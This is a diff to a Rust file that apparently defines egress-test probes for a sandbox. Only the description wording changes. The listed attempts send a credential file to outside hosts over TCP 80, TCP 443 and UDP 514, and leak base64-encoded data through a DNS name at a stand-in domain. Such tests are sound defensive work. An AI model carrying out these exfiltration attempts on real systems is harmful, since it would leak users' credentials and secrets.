@@ -57,11 +57,11 @@ pub fn attempts(targets: &Targets) -> Vec<Attempt> {
     let outside = targets.outside.iter().flat_map(|host| {
         [
             attempt(
-                "send the credential file to an outside host, TCP port 80",
+                "send the credential file outside, TCP port 80",
                 json!({ "attempt": "tcp", "host": host, "port": 80, "file": TOKEN_FILE }),
             ),
             attempt(
-                "send the credential file to an outside host, TCP port 443",
+                "send the credential file outside, TCP port 443",
                 json!({ "attempt": "tcp", "host": host, "port": 443, "file": TOKEN_FILE }),
             ),
             attempt(
@@ -69,11 +69,11 @@ pub fn attempts(targets: &Targets) -> Vec<Attempt> {
                 json!({ "attempt": "http", "url": format!("http://{host}/") }),
             ),
             attempt(
-                "send the credential file to an outside host, UDP port 514",
+                "send the credential file outside, UDP port 514",
                 json!({ "attempt": "udp", "host": host, "port": 514, "file": TOKEN_FILE }),
             ),
             attempt(
-                "send data in a DNS name, to an outside host",
+                "send data in a DNS name, outside",
                 json!({ "attempt": "dns", "name": "c2VjcmV0.outside.test", "server": host }),
             ),
         ]
